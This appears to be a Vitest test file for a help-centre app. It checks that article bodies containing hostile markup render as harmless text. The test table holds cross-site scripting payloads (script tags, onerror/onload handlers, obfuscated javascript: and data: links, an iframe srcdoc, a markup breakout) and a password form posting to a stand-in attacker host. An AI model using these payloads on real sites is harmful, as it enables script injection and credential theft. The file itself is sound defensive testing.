import { afterAll, beforeAll, expect, test } from 'vitest';
import { installStarterContent } from '../../src/server/help/install-starter-content.ts';
import { closeLibrary } from '../../src/server/help/library.ts';
import { createTestDatabase, type TestDatabase } from '../support/database.ts';
import { type Node, startNode } from '../support/node.ts';
import { Visitor } from './visitor.ts';

let database: TestDatabase;
let node: Node;
let visitor: Visitor;
const path = '/help/payments/charged-twice';

beforeAll(async () => {
  database = await createTestDatabase();
  node = await startNode(database.url);
  await installStarterContent(node.deps);
  visitor = new Visitor(node.url);
});
afterAll(async () => {
  await node.stop();
  await database.drop();
});

/** The page of an article with this body, as if somebody had got it past every editor. */
async function pageWith(body: string): Promise<string> {
  await database.sql`update article_versions set body = ${body} where article_id = 'charged-twice'`;
  closeLibrary(node.deps.sql);
  return visitor.read(path);
}

const between = (page: string): string => /<div class="prose">([\s\S]*?)<\/article>/.exec(page)?.[1] ?? '';

test.each([
  '<script>alert(1)</script>',
  '<svg onload=alert(1)><animate onbegin=alert(1) /></svg>',
  '<img src=x onerror=alert(1)>',
  '[tap](javascript:alert(1))',
  '[tap](JaVaScRiPt&#58;alert(1))',
  '[tap](data:text/html;base64,PHNjcmlwdD4=)',
  '![x](javascript:alert(1))',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<form action="https://evil.example"><input name=password></form>',
  '<style>body{display:none}</style><link rel=stylesheet href=//evil.example>',
  '</div></article><script>alert(1)</script>',
  '<a href="https://okpay.example" style="position:fixed;inset:0">x</a>',
])('%j is words on the page and nothing else', async (body) => {
  const bare = between(await pageWith(body)).replace(/(?<==)"[^"]*"/g, '""');
  for (const [tag] of bare.matchAll(/<[a-z][^>]*>/gi)) {
    expect(tag).toMatch(
      /^<(div|p|a|h2|ul|ol|li|code|em|strong|section|span|svg|path|button|rect|circle|line)\b/,
    );
    expect(tag).not.toMatch(/\son[a-z]+\s*=|\sstyle\s*=|srcdoc/i);
  }
  expect(await visitor.read(path)).not.toMatch(/(href|src|action)="\s*(javascript|data):/i);
});
